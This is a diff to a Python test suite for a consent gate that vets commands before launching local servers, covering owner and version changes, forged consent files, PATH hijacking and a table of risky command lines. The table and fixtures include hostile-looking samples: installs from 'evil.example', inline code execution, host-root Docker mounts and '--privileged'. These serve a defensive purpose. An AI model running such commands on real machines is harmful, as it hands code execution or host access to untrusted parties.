@@ -91,6 +91,26 @@ def test_consent_is_void_after_any_change_and_the_difference_is_told(script: Pat
     assert now.changes == (f"The content of {script} changed.",)
 
 
+@pytest.mark.case("SPAWN-03", "SPAWN-12")
+def test_consent_is_void_when_the_program_belongs_to_someone_else(script: Path, consents: Consents) -> None:
+    subject = entry(sys.executable, str(script))
+    agreed = look(subject)
+    program, file = agreed.files
+    other = msgspec.structs.replace(agreed, files=(program, msgspec.structs.replace(file, owner="mallory")))
+    now = shown(subject, other, agreed)
+    assert now.fingerprint != agreed.fingerprint()
+    assert now.changes == (f"The owner of {script} was {file.owner}, is mallory.",)
+
+
+@pytest.mark.case("SPAWN-03")
+def test_consent_is_void_for_another_version_of_a_package(tools_on_path: Path) -> None:
+    old, new = (drafted(ServerInput(command_line=f"npx -y server@{n}"), "one").entry for n in ("1.0.0", "1.0.1"))
+    agreed = look(old)
+    now = asked(new, agreed)
+    assert now.fingerprint != agreed.fingerprint()
+    assert now.changes == ("Argument 2: was server@1.0.0, is server@1.0.1.",)
+
+
 @pytest.mark.case("SPAWN-03")
 def test_consent_holds_for_the_same_command_and_a_file_that_was_only_touched(script: Path, consents: Consents) -> None:
     subject = entry(sys.executable, str(script), "a")
@@ -109,9 +129,9 @@ def test_a_consent_that_someone_else_wrote_counts_for_nothing(script: Path, cons
     consents.give("one", look(subject))
     file = tmp_path / "secrets" / "consents.json"
     kept = msgspec.json.decode(file.read_bytes())
-    kept["two"] = kept["one"]
-    kept["one"]["agreed"]["argv"].append("--evil")
-    file.write_bytes(msgspec.json.encode(kept))
+    # One that was given to another server, and one to another command.
+    forged = {"two": kept["one"], "one": {**kept["one"], "agreed": {**kept["one"]["agreed"], "folder": "/evil"}}}
+    file.write_bytes(msgspec.json.encode(forged))
     again = Consents(file, SecretStore(tmp_path / "secrets"))
     assert again.agreed("one") is None
     assert again.agreed("two") is None
@@ -132,7 +152,7 @@ def test_a_consent_outlives_a_restart_and_ends_when_it_is_withdrawn(
 def tools_on_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     folder = tmp_path / "bin"
     folder.mkdir()
-    for name in ("npx", "uvx", "docker", "node", "env"):
+    for name in ("npx", "uvx", "docker", "node", "env", "python3"):
         program = folder / name
         program.write_text("#!/bin/sh\n")
         program.chmod(0o755)
@@ -148,7 +168,12 @@ def tools_on_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
         ("npx -y some-server", "Downloads a package from npm"),
         ("uvx --from git+https://evil.example/x server", "arbitrary code"),
         ("node -e 'process.exit()'", "arbitrary code"),
+        ("node --import data:text/javascript,x server.js", "arbitrary code"),
         ("env X=Y sh", "arbitrary code"),
+        ("python3 -c 'import os'", "arbitrary code"),
+        ("python3 server.py", "Runs a script with your rights."),
+        ("npx -y --package=evil server", "arbitrary code"),
+        ("uvx some-server", "Downloads a package from PyPI"),
         ("docker run -i --rm -v /:/host image", "a part of this machine: /:/host"),
         ("docker run -i --rm --mount=type=bind,src=/,dst=/x image", "a part of this machine"),
         ("docker run -i --privileged --rm image", "special powers: --privileged"),
@@ -202,11 +227,39 @@ def test_the_program_found_is_shown_with_its_owner_and_a_new_one_before_it_voids
 
 
 @pytest.mark.case("SPAWN-05")
-def test_a_program_that_others_can_change_is_called_out(tmp_path: Path) -> None:
-    program = tmp_path / "server"
+@pytest.mark.parametrize(
+    ("file", "folder", "told"), [(0o777, 0o755, True), (0o755, 0o777, True), (0o755, 0o755, False)]
+)
+def test_a_program_that_others_can_change_or_replace_is_called_out(
+    tmp_path: Path, file: int, folder: int, told: bool
+) -> None:
+    program = tmp_path / "bin" / "server"
+    program.parent.mkdir()
     program.write_text("#!/bin/sh\n")
-    program.chmod(0o777)
-    assert any("Other accounts" in warning for warning in asked(entry(str(program))).warnings)
+    program.chmod(file)
+    program.parent.chmod(folder)
+    assert any("Other accounts" in warning for warning in asked(entry(str(program))).warnings) is told
+
+
+@pytest.mark.case("SPAWN-05")
+async def test_what_is_started_is_the_program_that_was_shown_whatever_path_the_entry_declares(
+    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    marker = tmp_path / "evil"
+    good, bad = tmp_path / "good", tmp_path / "bad"
+    for folder, first in ((good, "true"), (bad, f"touch {marker}")):
+        folder.mkdir()
+        (folder / "my-server").write_text(f"#!/bin/sh\n{first}\nexec {sys.executable} {SCRIPTED}\n")
+        (folder / "my-server").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{good}:{os.environ['PATH']}")
+    async with hosting(home) as hosted:
+        body = ServerInput(name="Mine", command="my-server", plain_env={"PATH": f"{bad}:{os.environ['PATH']}"})
+        view = await hosted.admin.add(body)
+        assert view.consent is not None
+        assert view.consent.argv == (str(good / "my-server"),)
+        await hosted.admin.consent(view.id, ConsentGiven(fingerprint=view.consent.fingerprint))
+        assert (await hosted.admin.test("Mine")).ok
+    assert not marker.exists()
 
 
 @pytest.mark.case("SPAWN-12", "SPAWN-03")
